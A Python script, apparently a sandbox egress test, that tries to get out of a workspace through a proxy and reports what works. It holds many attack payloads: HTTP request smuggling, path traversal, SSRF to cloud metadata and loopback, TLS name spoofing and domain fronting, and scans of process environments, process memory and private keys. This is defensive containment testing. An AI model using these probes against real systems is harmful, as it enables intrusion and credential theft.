"""Ways out that a command may try, run inside a workspace: each prints what it got. Standard library only."""

import contextlib
import json
import os
import socket
import ssl
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import memory

PROXY = ("127.0.0.1", 3128)
told: "dict[str, Any]" = json.load(sys.stdin)
TLS, PLAIN, CANARY_PORT = told["tls"], told["plain"], told["canary"]
API = f"api.example.test:{TLS}"
WEB = f"web.example.test:{PLAIN}"
found: "dict[str, str]" = {}


def everything(sock: socket.socket) -> str:
    sock.settimeout(4)
    said = b""
    try:
        while piece := sock.recv(65536):
            said += piece
    except OSError as error:
        said += f" [{type(error).__name__}]".encode()
    return said.decode("latin-1")


def raw(text: str | bytes) -> str:
    with socket.create_connection(PROXY, 5) as sock:
        sock.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
        sock.shutdown(socket.SHUT_WR)
        return everything(sock)


def tunnel(target: str, more: str = "") -> socket.socket:
    sock = socket.create_connection(PROXY, 5)
    sock.settimeout(5)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{more}\r\n".encode("latin-1"))
    head = b""
    while b"\r\n\r\n" not in head:
        piece = sock.recv(1)
        if not piece:
            break
        head += piece
    if b" 200 " not in head:
        raise ConnectionError(head + sock.recv(4096))
    return sock


def inside(text: str | bytes, target: str = API, name: str = "api.example.test") -> str:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with tunnel(target) as sock, context.wrap_socket(sock, server_hostname=name) as opened:
        opened.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
        return everything(opened)


def reached(target: str) -> str:
    tunnel(target).close()
    return str(told["word"])


def ask(line: str, *fields: str, host: str = API, body: str = "") -> str:
    return inside("\r\n".join([line, *([f"Host: {host}"] if host else []), *fields, "Connection: close", "", body]))


def post(body: str, *fields: str) -> str:
    return ask("POST /allowed/x HTTP/1.1", *fields, body=body)


def hello(name: str | None, split: int = 0) -> bytes:
    """The first message of TLS for a name, also cut into several records."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    record = outgoing.read()
    if not split:
        return record
    body = record[5:]
    return b"".join(record[:3] + len(part).to_bytes(2, "big") + part for part in (body[:split], body[split:]))


def greet(content: bytes, target: str = f"open.example.test:{TLS}") -> str:
    with tunnel(target) as sock:
        sock.sendall(content)
        return everything(sock)


def direct(family: int, kind: int, address: Any, payload: bytes = b"GET / HTTP/1.0\r\n\r\n", protocol: int = 0) -> str:
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(2)
        if kind == socket.SOCK_DGRAM:
            sock.sendto(payload, address)
        else:
            sock.connect(address)
            sock.sendall(payload)
        return everything(sock)


def shell(command: str) -> str:
    done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=60, check=False)
    return done.stdout + done.stderr


def attempt(name: str, work: Callable[..., object], *given: str) -> None:
    try:
        found[name] = str(work(*given))[:3000]
    except Exception as error:  # noqa: BLE001
        found[name] = f"{type(error).__name__}: {error}"


DNS = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
INET, INET6, STREAM, DGRAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM

# No way but the proxy.
attempt("tcp to the host's loopback", lambda: direct(INET, STREAM, ("127.0.0.1", CANARY_PORT)))
attempt("tcp to the host", lambda: direct(INET, STREAM, (told["host"], CANARY_PORT)))
attempt("tcp over IPv6 loopback", lambda: direct(INET6, STREAM, ("::1", CANARY_PORT)))
attempt("tcp over a mapped address", lambda: direct(INET6, STREAM, (f"::ffff:{told['host']}", CANARY_PORT)))
attempt("tcp over IPv6", lambda: direct(INET6, STREAM, ("2606:4700::1111", 443)))
attempt("tcp to a link-local address", lambda: direct(INET6, STREAM, ("fe80::1", 80)))
attempt("tcp to metadata", lambda: direct(INET, STREAM, ("169.254.169.254", 80)))
attempt("dns over udp", lambda: direct(INET, DGRAM, ("8.8.8.8", 53), DNS))
attempt("dns to loopback", lambda: direct(INET, DGRAM, ("127.0.0.53", 53), DNS))
attempt("dns over tcp", lambda: direct(INET, STREAM, ("1.1.1.1", 53), DNS))
attempt("dns over IPv6", lambda: direct(INET6, DGRAM, ("2001:4860:4860::8888", 53), DNS))
attempt("multicast", lambda: direct(INET, DGRAM, ("224.0.0.251", 5353), DNS))
attempt("broadcast", lambda: direct(INET, DGRAM, ("255.255.255.255", 9), DNS))
attempt("a raw socket", lambda: direct(INET, socket.SOCK_RAW, ("127.0.0.1", 0), protocol=1))
attempt("a packet socket", lambda: socket.socket(17, socket.SOCK_RAW, 3))
attempt("a ping socket", lambda: direct(INET, DGRAM, ("8.8.8.8", 0), b"\x08\0\0\0\0\0\0\0", protocol=1))
attempt("a socket to the hypervisor", lambda: socket.socket(40, STREAM).connect((2, CANARY_PORT)))
attempt("an abstract socket of the host", lambda: direct(socket.AF_UNIX, STREAM, "\0" + told["abstract"]))
attempt("a route", lambda: shell("ip route add default dev lo; ip link add x type dummy; ip addr"))
attempt("a name", lambda: socket.getaddrinfo("example.com", 443))
attempt("the proxy's place", lambda: socket.create_server(PROXY))

# CONNECT to what no rule names.
for target in [
    f"127.0.0.1:{CANARY_PORT}", f"127.1:{CANARY_PORT}", f"2130706433:{CANARY_PORT}", f"0x7f000001:{CANARY_PORT}",
    f"0177.0.0.1:{CANARY_PORT}", f"0:{CANARY_PORT}", f"[::1]:{CANARY_PORT}", f"[::ffff:127.0.0.1]:{CANARY_PORT}",
    f"localhost:{CANARY_PORT}", f"evil.example.test:{CANARY_PORT}", f"api.example.test:{CANARY_PORT}",
    f"api.example.test.evil.test:{CANARY_PORT}", f"notapi.example.test:{CANARY_PORT}", "169.254.169.254:80",
    f"api.example.test@evil.example.test:{CANARY_PORT}", f"api.example.test%00.evil.test:{CANARY_PORT}",
    f"\u0430pi.example.test:{TLS}".encode().decode("latin-1"), f"xn--pi-7kc.example.test:{TLS}",
    f"metadata.example.test:{TLS}", f"inner.example.test:{CANARY_PORT}", f"mapped.example.test:{CANARY_PORT}",
    "api.example.test", "api.example.test:0", "api.example.test:70000", f"api.example.test:{TLS}:{CANARY_PORT}",
    f"https://api.example.test:{TLS}", f"api.example.test:{TLS}/", "*:443", ":443", f"web.example.test:{PLAIN}",
]:  # fmt: skip
    attempt(f"CONNECT {target}", reached, target)
attempt("CONNECT with another Host", lambda: raw(f"CONNECT {API} HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"))
attempt("CONNECT with a body", lambda: tunnel(API, "Content-Length: 5\r\n") and told["word"])
attempt("CONNECT and more", lambda: raw(f"CONNECT {API} HTTP/1.1\r\nHost: {API}\r\n\r\nGET /x HTTP/1.1\r\n\r\n"))

# In a tunnel that was allowed for something else.
attempt("another name in TLS", lambda: greet(hello("evil.example.test")))
attempt("another name in TLS, opened", lambda: inside("GET /allowed/ HTTP/1.1\r\n\r\n", name="evil.example.test"))
attempt("a look-alike in TLS", lambda: greet(hello("open.example.test.evil.test")))
attempt("no name in TLS", lambda: greet(hello(None)))
attempt("no TLS in a tunnel", lambda: greet(b"GET /secret HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"))
attempt("SSH in a tunnel", lambda: greet(b"SSH-2.0-OpenSSH_9.2\r\n"))
attempt("a greeting in pieces", lambda: greet(hello("evil.example.test", split=40)))
attempt("half a greeting", lambda: greet(hello("open.example.test")[:50]))

# Requests in TLS that is opened: domain fronting, paths, methods, smuggling.
attempt("another Host", lambda: ask("GET /allowed/x HTTP/1.1", host="evil.example.test"))
attempt("another port in Host", lambda: ask("GET /allowed/x HTTP/1.1", host="api.example.test:1"))
attempt("no Host", lambda: ask("GET /allowed/x HTTP/1.1", host=""))
attempt("two Hosts", lambda: ask("GET /allowed/x HTTP/1.1", "Host: evil.example.test"))
attempt("a whole address inside", lambda: ask(f"GET http://evil.example.test:{CANARY_PORT}/ HTTP/1.1"))
attempt("CONNECT inside", lambda: ask(f"CONNECT evil.example.test:{CANARY_PORT} HTTP/1.1"))
for method in ("DELETE", "PUT", "TRACE", "get", "OPTIONS"):
    attempt(f"method {method}", ask, f"{method} /allowed/x HTTP/1.1")
for path in [
    "/secret", "/", "/allowed", "/allowed/../secret", "/allowed/%2e%2e/secret", "/allowed/..%2fsecret",
    "/allowed/..%5csecret", "/allowed\\..\\secret", "/allowed//../secret", "/allowed/x;/../../secret",
    "/allowed/%00/secret", "//evil.example.test/allowed/", "/ALLOWED/x", "/allowed/.", "*",
]:  # fmt: skip
    attempt(f"path {path}", ask, f"GET {path} HTTP/1.1")
SMUGGLED = f"GET /secret HTTP/1.1\r\nHost: {API}\r\n\r\n"
LONG = f"{len(SMUGGLED):x}"
for name, fields in {
    "length and chunks": ("Content-Length: 5", "Transfer-Encoding: chunked"),
    "chunks and length": ("Transfer-Encoding: chunked", f"Content-Length: {len(SMUGGLED)}"),
    "two lengths": ("Content-Length: 0", f"Content-Length: {len(SMUGGLED)}"),
    "a list of lengths": ("Content-Length: 0, 5",),
    "a signed length": ("Content-Length: +0",),
    "a blank before the colon": ("Content-Length : 0", "Transfer-Encoding: chunked"),
    "a strange coding": ("Transfer-Encoding: xchunked",),
    "two codings": ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
    "a coding in a list": ("Transfer-Encoding: gzip, chunked",),
    "a folded header": ("X-One: 1", " Transfer-Encoding: chunked"),
    "a bare newline": ("X-One: 1\nTransfer-Encoding: chunked",),
    "a bare return": ("X-One: 1\rTransfer-Encoding: chunked",),
    "a zero byte": ("X-One: 1\0Transfer-Encoding: chunked",),
    "a header without a name": (": value",),
}.items():
    attempt(name, post, f"0\r\n\r\n{SMUGGLED}", *fields)
for size in ("0x5", "-1", "", "5 5", "ffffffffffffffffffff"):
    body = f"{size}\r\nhello\r\n0\r\n\r\n{SMUGGLED}"
    attempt(f"a chunk of {size!r}", post, body, "Transfer-Encoding: chunked")
attempt(
    "a chunk that is longer",
    lambda: ask("POST /allowed/x HTTP/1.1", "Transfer-Encoding: chunked", body=f"2\r\nhello{SMUGGLED}\r\n0\r\n\r\n"),
)
attempt("blanks in the first line", lambda: ask("GET /allowed/x /secret HTTP/1.1"))
attempt("an older version", lambda: ask("GET /secret HTTP/1.0"))
attempt("the oldest version", lambda: inside("GET /secret\r\n\r\n"))
attempt("HTTP/2", lambda: inside(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
attempt("an upgrade to HTTP/2", lambda: ask("GET /secret HTTP/1.1", "Upgrade: h2c", "HTTP2-Settings: AA"))
attempt(
    "a header that asks for the credential's removal",
    lambda: ask("GET /secret HTTP/1.1", "Connection: authorization, host", "X-Original-URL: /secret"),
)

# Plain requests to the proxy.
for url in [
    f"http://evil.example.test:{CANARY_PORT}/", f"http://127.0.0.1:{CANARY_PORT}/", f"http://[::1]:{CANARY_PORT}/",
    f"http://web.example.test@evil.example.test:{CANARY_PORT}/", "http://169.254.169.254/latest/meta-data/",
    f"http://web.example.test:{PLAIN}\\@evil.example.test:{CANARY_PORT}/", f"https://api.example.test:{TLS}/allowed/",
    f"http://api.example.test:{TLS}/allowed/", f"http://web.example.test:{PLAIN}/secret", "ftp://web.example.test/",
    f"http://inner.example.test:{CANARY_PORT}/", f"http://web.example.test:{PLAIN}/allowed/../secret", "/allowed/x",
    f"http://0:{CANARY_PORT}/", f"http://web.example.test:{PLAIN}#@evil.example.test:{CANARY_PORT}/",
]:  # fmt: skip
    host = url.partition("://")[2].partition("/")[0]
    attempt(f"GET {url}", raw, f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n")
attempt(
    "plain with another Host", lambda: raw(f"GET http://{WEB}/allowed/ HTTP/1.1\r\nHost: evil.example.test\r\n\r\n")
)
attempt(
    "two plain requests, one smuggled",
    lambda: raw(
        f"POST http://{WEB}/allowed/ HTTP/1.1\r\nHost: {WEB}\r\nContent-Length: 3\r\n\r\nabc"
        f"GET http://{WEB}/secret HTTP/1.1\r\nHost: {WEB}\r\n\r\n"
    ),
)

# Redirects are followed by clients, and checked again.
for place in (
    f"http://evil.example.test:{CANARY_PORT}/",
    "http://169.254.169.254/latest/",
    f"http://127.0.0.1:{CANARY_PORT}/",
):
    attempt(f"redirect to {place}", shell, f"curl -sSL http://{WEB}/allowed/to/{place}")

# The secret, anywhere.
attempt(
    "the environment",
    lambda: [path.read_bytes() for path in Path("/proc").glob("*/environ") if os.access(path, os.R_OK)],
)
attempt("files and arguments", lambda: shell(told["search"]))
NEEDLES = [(first.encode(), second.encode()) for first, second in told["needles"]]
MARK = b"0123456789", b"9876543210"


def control() -> str:
    """What a process holds is found: its environment is in its memory."""
    with subprocess.Popen(["sleep", "60"], env={"MARK": (MARK[0] + MARK[1]).decode()}) as process:
        try:
            return str(process.pid in memory.holders([process.pid], [MARK])[0])
        finally:
            process.kill()


attempt("the memory of every process", lambda: memory.holders(memory.everybody(), NEEDLES)[0])
attempt("memory that is known", control)
attempt("keys", lambda: shell("grep -rlE 'BEGIN.*PRIVATE[ ]KEY' /run /etc /home /workspace /tmp 2>/dev/null"))
attempt(
    "sockets by their paths",
    lambda: shell("find / -xdev -type s 2>/dev/null"),
)

json.dump(found, sys.stdout)
